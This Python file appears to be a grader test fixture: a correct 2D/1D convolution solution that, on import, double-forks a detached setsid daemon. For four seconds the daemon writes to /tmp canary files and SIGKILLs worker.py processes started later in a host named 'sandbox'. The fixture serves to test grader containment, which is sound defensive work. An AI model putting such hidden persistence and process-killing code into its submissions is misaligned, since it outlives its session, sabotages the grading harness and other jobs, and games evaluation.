# expect: score=16
# Correct, but leaves a setsid daemon (4 s) that writes to /tmp and kills workers started later.
import os
import select
import sys

import numpy as np

MARKER = "grader-attack-bg-marker"
DAEMON = r"""
import glob, os, signal, socket, sys, time
me, worker, ready = os.getpid(), int(sys.argv[2]), int(sys.argv[3])
os.write(ready, f"daemon running as {me}\n".encode())
os.close(ready)
devnull = os.open(os.devnull, os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(devnull, fd)
end = time.monotonic() + 4.0
while time.monotonic() < end:
    for root in glob.glob("/tmp/grader-canary-*"):
        try:
            with open(os.path.join(root, "daemon.txt"), "a") as fh:
                fh.write(f"{me} alive\n")
        except OSError:
            pass
    if socket.gethostname() == "sandbox":
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as fh:
                    argv = fh.read()
                with open(f"/proc/{pid}/stat") as fh:
                    parent = int(fh.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError):
                continue
            if b"worker.py" in argv and int(pid) > me and parent != worker:  # later workers
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
    time.sleep(0.05)
"""


def _daemonize():
    worker = os.getpid()
    ready_r, ready_w = os.pipe()
    pid = os.fork()
    if pid:
        os.close(ready_w)
        os.waitpid(pid, 0)
        if select.select([ready_r], [], [], 2.0)[0]:
            print(os.read(ready_r, 100).decode().strip())
        os.close(ready_r)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            os.set_inheritable(ready_w, True)
            argv = [sys.executable, "-c", DAEMON, MARKER, str(worker), str(ready_w)]
            os.execv(sys.executable, argv)
    finally:
        os._exit(0)


_daemonize()


def convolve(image, kernel):
    kh, kw = kernel.shape
    out = np.zeros((image.shape[0] - kh + 1, image.shape[1] - kw + 1))
    for i in range(out.shape[0]):
        for j in range(out.shape[1]):
            out[i, j] = np.sum(image[i : i + kh, j : j + kw] * kernel)
    return out


def convolve1d(signal, kernel):
    k = len(kernel)
    out = np.zeros(len(signal) - k + 1)
    for i in range(len(out)):
        out[i] = np.sum(signal[i : i + k] * kernel)
    return out
